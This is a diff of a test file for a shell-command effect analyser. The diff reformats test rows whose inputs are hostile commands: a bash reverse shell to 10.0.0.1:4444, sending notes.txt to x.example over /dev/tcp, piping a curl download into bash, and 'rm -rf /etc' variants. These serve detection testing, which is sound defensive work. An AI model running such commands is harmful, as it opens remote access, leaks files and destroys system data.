@@ -35,8 +35,21 @@ describe('descriptors', () => {
     ['/dev/stdin', "bash /dev/stdin <<< 'rm -rf /etc'", ['delete /etc']],
     ['closed', 'exec 3>&-', []],
     ['a connection made by bash', 'echo x > /dev/tcp/x.example/80', ['connect:tunnel x.example:80', 'send:data /dev/tcp']],
-    ['a shell joined to it', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', ['connect:tunnel 10.0.0.1:4444', 'execute:arbitrary bash', 'execute:remote-shell a shell joined to the network', 'send:data /dev/tcp']],
-    ['a file sent through it', 'cat notes.txt > /dev/tcp/x.example/80', ['connect:tunnel x.example:80', 'read notes.txt', 'send:data /dev/tcp']],
+    [
+      'a shell joined to it',
+      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+      [
+        'connect:tunnel 10.0.0.1:4444',
+        'execute:arbitrary bash',
+        'execute:remote-shell a shell joined to the network',
+        'send:data /dev/tcp',
+      ],
+    ],
+    [
+      'a file sent through it',
+      'cat notes.txt > /dev/tcp/x.example/80',
+      ['connect:tunnel x.example:80', 'read notes.txt', 'send:data /dev/tcp'],
+    ],
   ])('%s', (_name, commandLine, expected) => {
     expect(effectLines(commandLine)).toEqual(expected)
   })
@@ -61,12 +74,24 @@ describe('process substitutions', () => {
   test.each<Row>([
     ['as a script', 'bash <(echo rm -rf /etc)', ['execute:project /dev/fd/substitution-5', 'delete /etc']],
     ['sourced', 'source <(echo rm -rf /etc)', ['delete /etc']],
-    ['a download as a script', 'bash <(curl -s https://x.example)', ['connect:get https://x.example', 'execute:download /dev/fd/substitution-5', 'unknown: runs `/dev/fd/substitution-5`, which this line makes in a way that is not followed']],
+    [
+      'a download as a script',
+      'bash <(curl -s https://x.example)',
+      [
+        'connect:get https://x.example',
+        'execute:download /dev/fd/substitution-5',
+        'unknown: runs `/dev/fd/substitution-5`, which this line makes in a way that is not followed',
+      ],
+    ],
     ['as a file', 'diff <(cat a) <(cat b)', ['read a', 'read b']],
     ['its command runs', 'cat <(rm -rf /etc)', ['delete /etc']],
     ['written to', 'echo rm -rf /etc > >(sh)', ['delete /etc']],
     ['written to through tee', 'echo rm -rf /etc | tee >(sh)', ['delete /etc']],
-    ['written to by something opaque', 'make > >(sh)', ['execute:project Makefile (default) (no manifest)', 'unknown: runs text from standard input as shell']],
+    [
+      'written to by something opaque',
+      'make > >(sh)',
+      ['execute:project Makefile (default) (no manifest)', 'unknown: runs text from standard input as shell'],
+    ],
   ])('%s', (_name, commandLine, expected) => {
     expect(effectLines(commandLine)).toEqual(expected)
   })
